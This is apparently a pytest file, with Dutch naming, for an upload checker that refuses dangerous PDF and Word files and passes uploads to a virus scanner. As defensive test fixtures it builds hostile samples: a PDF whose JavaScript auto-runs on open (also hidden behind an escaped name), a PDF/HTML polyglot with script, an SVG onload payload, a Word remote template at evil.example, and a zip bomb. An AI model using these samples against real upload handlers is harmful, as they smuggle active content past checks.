"""What is inside an upload: a PDF must parse as a PDF and carry no active
content, a Word file no macros and no zip bomb, no file may also be a web
page, and with a virus scanner configured every file passes it first. An
e-mail attachment is never refused (what a customer sent is kept) but the
agent sees the warning."""

from __future__ import annotations

import io
import socket
import struct
import threading
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from kcc import bestanden

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def _pdf(maak=None) -> bytes:
    schrijver = PdfWriter()
    schrijver.add_blank_page(width=595, height=842)
    if maak:
        maak(schrijver)
    uit = io.BytesIO()
    schrijver.write(uit)
    return uit.getvalue()


def _javascript_bij_openen(schrijver):
    schrijver.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )


def _docx(extra: dict[str, bytes] | None = None, *, inhoud: bytes = b"<w:document/>") -> bytes:
    uit = io.BytesIO()
    with zipfile.ZipFile(uit, "w", zipfile.ZIP_DEFLATED) as pakket:
        pakket.writestr("[Content_Types].xml", b'<Types><Default Extension="xml"/></Types>')
        pakket.writestr("word/document.xml", inhoud)
        for naam, data in (extra or {}).items():
            pakket.writestr(naam, data)
    return uit.getvalue()


def _controleer(inhoud: bytes, naam="bestand.pdf", toegestaan=None):
    bestand = SimpleUploadedFile(naam, inhoud)
    return bestanden.upload_controleren(bestand, toegestaan=toegestaan or ["pdf", "png", "docx"])


def _geweigerd(inhoud: bytes, **kwargs) -> str:
    with pytest.raises(ValidationError) as fout:
        _controleer(inhoud, **kwargs)
    return " ".join(fout.value.messages)


def test_a_plain_pdf_a_plain_word_file_and_an_image_are_taken():
    assert _controleer(_pdf()) == "pdf"
    assert _controleer(_docx()) == "docx"
    assert _controleer(PNG) == "png"


@pytest.mark.parametrize(
    "maak",
    [
        _javascript_bij_openen,
        lambda w: w.add_attachment("factuur.exe", b"MZ\x90\x00"),
    ],
    ids=["javascript", "embedded-file"],
)
def test_a_pdf_with_active_content_is_refused(maak):
    assert "actieve inhoud" in _geweigerd(_pdf(maak))


def test_a_pdf_that_hides_javascript_behind_an_escaped_name_is_refused():
    # /J#61vaScript is /JavaScript once the name is read: the check sees names
    # as the PDF reader does, not as bytes.
    verborgen = _pdf().replace(
        b"/Type /Catalog",
        b"/Type /Catalog /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>",
        1,
    )
    assert b"/JavaScript" not in verborgen
    assert "actieve inhoud" in _geweigerd(verborgen)


def test_a_broken_pdf_and_a_pdf_that_is_also_a_web_page_are_refused():
    assert "beschadigd" in _geweigerd(b"%PDF-1.7\n" + b"niets dan rommel " * 50)
    polyglot = _pdf() + b"\n<html><script>fetch('/api/v1/mij/')</script></html>"
    assert "code van een webpagina" in _geweigerd(polyglot)
    assert "code van een webpagina" in _geweigerd(PNG + b"<svg onload=alert(1)>", naam="foto.png")


def test_a_word_file_with_macros_activex_or_a_remote_template_is_refused():
    assert "macro's" in _geweigerd(_docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))
    assert "macro's" in _geweigerd(_docx({"word/activeX/activeX1.xml": b"<ax/>"}))
    sjabloon = (
        b'<Relationships><Relationship Type=".../attachedTemplate" '
        b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    assert "macro's" in _geweigerd(_docx({"word/_rels/settings.xml.rels": sjabloon}))


def test_a_word_file_that_unpacks_to_far_more_than_it_is_is_refused():
    bom = _docx(inhoud=b"\x00" * (20 * 1024 * 1024))
    assert len(bom) < 100 * 1024
    assert "veel te groot" in _geweigerd(bom)


class _Virusscanner:
    """A clamd that speaks INSTREAM and knows one signature."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.poort = self.server.getsockname()[1]
        self.ontvangen = []
        threading.Thread(target=self._dienen, daemon=True).start()

    def _dienen(self):
        while True:
            try:
                verbinding, _adres = self.server.accept()
            except OSError:
                return
            with verbinding:
                bestand = verbinding.makefile("rb")
                assert bestand.read(10) == b"zINSTREAM\0"
                data = b""
                while lengte := struct.unpack("!L", bestand.read(4))[0]:
                    data += bestand.read(lengte)
                self.ontvangen.append(data)
                uitslag = b"stream: Eicar-Test-Signature FOUND" if EICAR in data else b"stream: OK"
                verbinding.sendall(uitslag + b"\0")

    def sluiten(self):
        self.server.close()


def test_with_a_virus_scanner_every_upload_passes_it_first(settings):
    scanner = _Virusscanner()
    try:
        settings.CLAMAV_URL = f"tcp://127.0.0.1:{scanner.poort}"
        assert _controleer(_pdf()) == "pdf"
        melding = _geweigerd(_pdf() + b"\n" + EICAR)
        assert "virus gevonden (Eicar-Test-Signature)" in melding
        assert len(scanner.ontvangen) == 2 and scanner.ontvangen[0] == _pdf()
    finally:
        scanner.sluiten()
    # A scanner that does not answer: nothing is taken unchecked.
    settings.CLAMAV_URL = "tcp://127.0.0.1:1"
    assert "nu niet op virussen controleren" in _geweigerd(_pdf())


def test_an_attachment_with_macros_is_kept_with_a_warning_for_the_agent(db):
    from email.message import EmailMessage

    from kanalen.post import services as post_services

    bericht = EmailMessage()
    bericht["From"] = "inwoner@example.nl"
    bericht["To"] = "kcc@voorbeeldstad.nl"
    bericht["Subject"] = "Mijn formulier"
    bericht["Message-ID"] = "<macro-1@example.nl>"
    bericht.set_content("Zie bijlage.")
    bericht.add_attachment(
        _docx({"word/vbaProject.bin": b"\xd0\xcf"}),
        maintype="application",
        subtype="vnd.openxmlformats-officedocument.wordprocessingml.document",
        filename="formulier.docx",
    )
    item = post_services.email_ontvangen(ruw=bericht.as_bytes())
    bijlage = item.bijlagen.get()
    assert bijlage.soort == "docx" and bijlage.bestand.size > 0
    assert "macro's" in bijlage.waarschuwing
